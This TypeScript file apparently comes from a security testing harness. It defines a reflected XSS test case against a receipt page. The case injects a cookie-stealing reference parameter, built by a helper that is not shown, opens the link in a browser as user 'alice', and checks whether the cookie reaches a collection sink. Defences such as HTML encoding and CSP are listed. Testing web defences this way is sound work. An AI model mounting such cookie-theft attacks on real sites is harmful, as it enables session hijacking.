import type { Attack, AttackContext } from "../attack.ts";
import { summary } from "../exchange.ts";
import { receiptTwin, SCRIPT_TIMEOUT_MS, stolen } from "./shared/receipt.ts";
import { cookieThief, receiptPath } from "./shared/requests.ts";

export const xssReflected: Attack = {
  id: "xss-reflected",
  title: "Run a script in a customer's browser by a link (reflected XSS)",
  owasp: ["SAS-7", "CWE-79"],
  paper: "III.2.A",
  defences: ["edge:script", "edge:patterns", "function:html-encoding", "function:content-security-policy"],
  operation: "getReceipt",
  target: "receipt",
  needs: "browser",
  run: async (context: AttackContext) => {
    const token = context.sink.token();
    const path = receiptPath(context.seed.acme.orderId, { reference: cookieThief(context.sink.url, token) });
    const page = await context.open({ client: "alice", path });
    const hit = await context.sink.waitFor(token, SCRIPT_TIMEOUT_MS);
    return { effect: hit !== undefined, evidence: hit ? stolen("alice", hit) : summary(page) };
  },
  twin: (context) => receiptTwin(context, "alice", { reference: "PO 4711" }, "PO 4711"),
};
